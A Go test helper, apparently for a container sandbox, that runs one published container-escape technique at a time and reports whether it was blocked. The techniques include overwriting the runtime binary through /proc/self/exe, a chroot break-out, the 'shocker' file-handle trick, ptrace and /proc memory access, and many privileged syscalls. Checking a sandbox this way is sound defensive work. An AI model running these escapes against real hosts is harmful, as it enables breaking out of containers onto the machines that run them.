// attack tries, from inside a container, one way out of it that has been published, and prints what came of it: "done",
// or the error that stopped it. Tests build it; see escape_test.go.
package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

func main() {
	name := filepath.Base(os.Args[0])
	if name == "attack" {
		name, os.Args = os.Args[1], os.Args[1:]
	} else {
		name = "exe" // it runs as the loader of the program that is attacked
	}
	if err := attack(name); err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println("done")
}

func attack(name string) error {
	switch name {
	case "exe":
		return holdProgram()
	case "overwrite":
		return overwrite(os.Args[1])
	case "chroot":
		return leaveChroot()
	case "namespaces":
		return unix.Unshare(unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP)
	case "clone":
		return clone()
	case "ptrace":
		pid, err := strconv.Atoi(os.Args[1])
		if err != nil {
			return err
		}
		return unix.PtraceSeize(pid)
	case "memory":
		return readMemory(os.Args[1])
	case "identity":
		return fmt.Errorf("user %d", os.Geteuid())
	case "socket":
		return socket(os.Args[1:])
	}
	return call(name)
}

// holdProgram keeps the program that it was started as open, and becomes another: then nobody executes that program any
// more, and it could be written.
func holdProgram() error {
	fd, err := unix.Open("/proc/self/exe", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	return unix.Exec("/attack", []string{"attack", "overwrite", strconv.Itoa(fd)}, nil)
}

func overwrite(fd string) error {
	f, err := os.OpenFile("/proc/self/fd/"+fd, os.O_WRONLY|os.O_TRUNC, 0)
	if err != nil {
		return fmt.Errorf("held, %w", unwrap(err))
	}
	_, err = f.WriteString("#!/bin/sh\ntouch /owned\n")
	return fmt.Errorf("held, %w", unwrap(err))
}

// leaveChroot is the classic: out of a root by one that is not above where we are.
func leaveChroot() error {
	var before, after unix.Stat_t
	if err := unix.Stat("/", &before); err != nil {
		return err
	}
	if err := os.MkdirAll("/tmp/jail", 0o700); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/jail"); err != nil {
		return err
	}
	for range 64 {
		if err := os.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	if err := unix.Stat("/", &after); err != nil {
		return err
	}
	if before.Ino == after.Ino && before.Dev == after.Dev {
		return fmt.Errorf("the same root")
	}
	return nil
}

func clone() error {
	pid, _, errno := unix.RawSyscall6(unix.SYS_CLONE, unix.CLONE_NEWUSER|uintptr(unix.SIGCHLD), 0, 0, 0, 0, 0)
	if errno != 0 {
		return errno
	}
	if pid == 0 {
		unix.RawSyscall(unix.SYS_EXIT, 0, 0, 0)
	}
	return nil
}

func readMemory(pid string) error {
	f, err := os.Open("/proc/" + pid + "/mem")
	if err != nil {
		return unwrap(err)
	}
	return f.Close()
}

func socket(numbers []string) error {
	var n [3]int
	for i, text := range numbers {
		n[i], _ = strconv.Atoi(text)
	}
	fd, err := unix.Socket(n[0], n[1], n[2])
	if err == nil {
		unix.Close(fd)
	}
	return err
}

// handle is a struct file_handle for inode 2, the root of most file systems ("shocker", 2014).
type handle struct {
	size  uint32
	kind  int32
	bytes [8]byte
}

// call makes a system call with arguments that a privileged process would get past.
func call(name string) error {
	root := handle{8, 1, [8]byte{2}}
	path := unsafe.Pointer(unsafe.StringData("/\x00"))
	typed := unsafe.Pointer(unsafe.StringData("keyring\x00"))
	ring := ^uintptr(4) + 1 // KEY_SPEC_USER_KEYRING
	calls := map[string][6]uintptr{
		"open_by_handle_at": {0, uintptr(unsafe.Pointer(&root)), unix.O_RDONLY},
		"add_key":           {uintptr(typed), uintptr(path), 0, 0, ring}, "keyctl": {0, ring, 1},
		"request_key": {uintptr(typed), uintptr(path), 0, ring}, "bpf": {5, uintptr(path), 48},
		"perf_event_open": {uintptr(path), 0, 0, ^uintptr(0)}, "userfaultfd": {0},
		"io_uring_setup": {1, uintptr(path)}, "init_module": {uintptr(path), 1, uintptr(path)},
		"finit_module": {0, uintptr(path), 0}, "delete_module": {uintptr(path), 0}, "kexec_load": {0, 0, 0, 0},
		"reboot": {0xfee1dead, 672274793, 0}, "swapon": {uintptr(path), 0}, "acct": {uintptr(path)},
		"mount":   {uintptr(path), uintptr(path), uintptr(typed), unix.MS_BIND},
		"umount2": {uintptr(path), 0}, "pivot_root": {uintptr(path), uintptr(path)}, "setns": {0, 0},
		"open_tree": {^uintptr(99), uintptr(path), 1}, "fsopen": {uintptr(typed), 0},
		"move_mount": {0, uintptr(path), 0, uintptr(path)}, "quotactl": {0, uintptr(path)}, "settimeofday": {0, 0},
		"syslog": {3, uintptr(path), 1}, "clone3": {uintptr(path), 88}, "vhangup": {}, "lookup_dcookie": {0, 0, 0},
		"fanotify_init": {0, 0}, "personality": {0x12345},
	}
	args, ok := calls[name]
	if !ok {
		return fmt.Errorf("no attack %q", name)
	}
	if _, _, errno := unix.Syscall6(numbers[name], args[0], args[1], args[2], args[3], args[4], args[5]); errno != 0 {
		return errno
	}
	return nil
}

func unwrap(err error) error {
	if err == nil {
		return fmt.Errorf("written")
	}
	if i := strings.LastIndex(err.Error(), ": "); i >= 0 {
		return fmt.Errorf("%s", err.Error()[i+2:])
	}
	return err
}
